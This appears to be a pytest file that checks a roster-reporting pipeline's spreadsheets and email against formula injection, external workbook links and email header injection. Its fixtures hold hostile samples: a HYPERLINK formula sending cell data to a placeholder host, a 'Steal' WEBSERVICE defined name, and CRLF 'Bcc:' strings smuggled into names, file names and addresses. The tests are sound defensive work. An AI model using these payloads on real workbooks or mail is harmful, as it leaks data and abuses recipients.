"""Untrusted text in the spreadsheets and the mail the project writes: text that looks like a
formula (`=HYPERLINK(…)`, `+…`, `-…`, `@…`) stays text in every workbook, a returned copy holds the
sender's values and nothing that acts when opened, and no name or file name can add a header to a
letter. (The project writes no CSV.)
"""

from __future__ import annotations

import datetime as dt
import zipfile
from email import message_from_bytes, policy
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.packaging.relationship import Relationship
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink
from xlsxwriter import Workbook as XlsxWorkbook

from builders import SMALL_REGISTER, member, sample_config, write_register, write_roster
from pipeline.app import make_report
from pipeline.contract import REGISTER_SHEET, RESULT_SHEET
from pipeline.errors import PipelineError
from pipeline.mail import Letter, compose
from pipeline.period import Period
from pipeline.render.annotate import annotate_workbook
from pipeline.template import write_template

LINK = '=HYPERLINK("http://example.invalid/?"&A1,"bấm")'
FORMULA_LIKE = [LINK, "+84 Phạm Văn Dũng", "-1+2", "@SUM(A1:A9)"]


def _as_text(path: Path, sheet: str, cells: dict[str, str]) -> Path:
    """Write `cells` into `path` as text cells (openpyxl would make `=…` a formula)."""
    wb = load_workbook(path)
    for ref, value in cells.items():
        wb[sheet][ref].value = value
        wb[sheet][ref].data_type = "s"
    wb.save(path)
    return path


def _formula_cells(path: Path) -> list[str]:
    """Every cell of the workbook at `path` that Excel would compute."""
    wb = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def _text_cells(path: Path) -> set[str]:
    wb = load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s"}


# --- the committee's workbook ----------------------------------------------------------------------

def test_formula_like_names_and_values_are_text_cells_in_the_committee_workbook(tmp_path):
    units = write_register(tmp_path / "units.xlsx", SMALL_REGISTER)
    _as_text(units, REGISTER_SHEET, {"B2": LINK, "B3": "+84 Chi bộ Phòng Hậu cần"})   # CB-A's, CB-B's names
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    roster = write_roster(inbox / "CB-A_2022-Q3.xlsx", "CB-A", [
        member("Nguyễn Văn An", 1990, n=1),
        member("Trần Thị Bình", 1996, "Nữ", n=2, admitted=dt.date(2022, 8, 1), official=None),
    ])
    _as_text(roster, "Đảng viên", {"B3": "-1+2 Trần Thị Bình", "E3": "@SUM(A1:A9)"})   # name, "Dân tộc"
    run = make_report(inbox=inbox, units=units, quarter=3, out=tmp_path / "out", config=sample_config(),
                      report_date=dt.date(2022, 10, 27), workers=1, feedback=False)
    assert _formula_cells(run.workbook) == []
    texts = _text_cells(run.workbook)
    assert {LINK, "+84 Chi bộ Phòng Hậu cần", "-1+2 Trần Thị Bình", "@SUM(A1:A9)"} <= texts
    with zipfile.ZipFile(run.workbook) as book:
        assert not any(b"<f>" in book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))


# --- the roster template ---------------------------------------------------------------------------

def test_a_formula_like_unit_name_is_text_in_its_template(tmp_path):
    path = write_template(tmp_path / "mau.xlsx", ("CB-A", LINK), Period(2022, 3))
    assert _formula_cells(path) == []
    assert LINK in _text_cells(path)


# --- the returned, annotated copy ------------------------------------------------------------------

def _issue(message, *, row, cell, value):
    return {"severity": "error", "rule": "X", "message": message, "sheet": "Đảng viên", "row": row,
            "cell": cell, "column": "Họ và tên", "value": value, "file": "x.xlsx", "unit": "CB-A"}


def _excel_like(path: Path) -> Path:
    """A workbook as Excel saves one: formulas with the values they last showed, a computing
    name, a plain name, a link to a web page and one inside the book."""
    book = XlsxWorkbook(str(path))
    ws = book.add_worksheet("Đảng viên")
    ws.write_string(0, 0, "Họ và tên")
    ws.write_formula(1, 0, LINK, None, "bấm")
    ws.write_formula(2, 0, "=1+1", None, 2)
    ws.write_url(3, 0, "http://example.invalid/x", string="trang ngoài")
    ws.write_url(4, 0, "internal:'Đảng viên'!A1", string="về đầu trang")
    book.define_name("Steal", '=WEBSERVICE("http://example.invalid/")')
    book.define_name("Names", "='Đảng viên'!$A$1:$A$5")
    book.close()
    return path


def test_a_returned_copy_holds_the_values_formulas_showed_and_nothing_that_acts(tmp_path):
    source = _excel_like(tmp_path / "x.xlsx")
    assert _formula_cells(source) == ["Đảng viên!A2", "Đảng viên!A3"]
    out = annotate_workbook(source, tmp_path / "x - da kiem tra.xlsx",
                            [_issue("Họ tên là một công thức.", row=2, cell="A2", value=LINK)])
    assert _formula_cells(out) == []
    wb = load_workbook(out)
    ws = wb["Đảng viên"]
    assert [ws[ref].value for ref in ("A2", "A3", "A4", "A5")] == ["bấm", 2, "trang ngoài", "về đầu trang"]
    assert ws["A4"].hyperlink is None                                   # the web page: gone
    assert ws["A5"].hyperlink.location == "'Đảng viên'!A1"              # inside the book: kept
    assert list(wb.defined_names) == ["Names"]
    quoted = [row for row in wb[RESULT_SHEET].iter_rows(min_row=2) if row[5].value == LINK]
    assert quoted and quoted[0][5].data_type == "s"                     # the issue's value, as text


def test_links_to_other_workbooks_are_dropped_and_a_formula_without_a_value_comes_back_as_its_text(tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.title = "Đảng viên"
    ws.append(["Họ và tên"])
    ws["A2"] = "='[1]Sheet1'!A1"            # openpyxl stores no value for a formula
    link = ExternalLink(externalBook=ExternalBook(id="rId1"))
    link.file_link = Relationship(type="externalLinkPath", Target="http://example.invalid/book.xlsx",
                                  TargetMode="External", Id="rId1")
    wb._external_links.append(link)
    wb.save(tmp_path / "x.xlsx")
    assert len(load_workbook(tmp_path / "x.xlsx")._external_links) == 1
    out = annotate_workbook(tmp_path / "x.xlsx", tmp_path / "x - da kiem tra.xlsx", [])
    assert _formula_cells(out) == []
    assert load_workbook(out)["Đảng viên"]["A2"].value == "='[1]Sheet1'!A1"
    with zipfile.ZipFile(out) as book:
        assert not any("externalLink" in name for name in book.namelist())


# --- mail headers ----------------------------------------------------------------------------------

HOSTILE_NAME = "Chi bộ Phòng Tham mưu\r\nBcc: x@example.invalid"
UNIT_CONTEXT = {"period": "quý III năm 2022", "committee_name": "Đảng bộ Công an tỉnh",
                "unit": {"code": "CB-A", "name": HOSTILE_NAME, "status": "accepted"},
                "signature": "Ban Tổ chức\nĐảng bộ Công an tỉnh", "figures": "02 đảng viên",
                "errors": 0, "warnings": 0, "returned": True,
                "attachments": ["phan-hoi-CB-A-2022-Q3.pdf"]}


def _letter(to: str = "cb-a@example.vn") -> Letter:
    return Letter(kind="unit", unit="CB-A", to=to, template="mail_unit.txt.j2", context=UNIT_CONTEXT)


def test_a_line_break_in_a_unit_name_or_a_file_name_adds_no_header(tmp_path):
    message = compose(_letter(), sender="Ban Tổ chức <btc@example.vn>", attachments=[
        ("phan-hoi-CB-A-2022-Q3.pdf", b"%PDF-1.7"), ("DS\r\nBcc: y@example.invalid.xlsx", b"PK")])
    parsed = message_from_bytes(message.as_bytes(), policy=policy.default)
    assert sorted(parsed.keys()) == ["Content-Type", "Date", "From", "MIME-Version", "Message-ID", "Subject", "To"]
    assert parsed["To"] == "cb-a@example.vn"
    assert parsed["Subject"] == ("Kết quả kiểm tra danh sách đảng viên quý III năm 2022 — "
                                 "Chi bộ Phòng Tham mưu Bcc: x@example.invalid")
    names = [part.get_filename() for part in parsed.iter_attachments()]
    assert names == ["phan-hoi-CB-A-2022-Q3.pdf", "DS Bcc: y@example.invalid.xlsx"]
    body = parsed.get_body().get_content()
    assert body.startswith("Kính gửi: Chi bộ Phòng Tham mưu")
    assert "Ban Tổ chức\nĐảng bộ Công an tỉnh" in body       # a value's own line breaks stay in the body


@pytest.mark.parametrize("address", [
    "cb-a@example.vn\r\nBcc: x@example.invalid",
    "Chi bộ A\r\nBcc: x@example.invalid <cb-a@example.vn>",
    "cb-a@example.vn, x@example.invalid",
    "không phải địa chỉ",
])
def test_an_address_that_is_not_exactly_one_mailbox_makes_no_letter(address):
    with pytest.raises(PipelineError, match="Địa chỉ thư không dùng được"):
        compose(_letter(address), sender="Ban Tổ chức <btc@example.vn>", attachments=[])
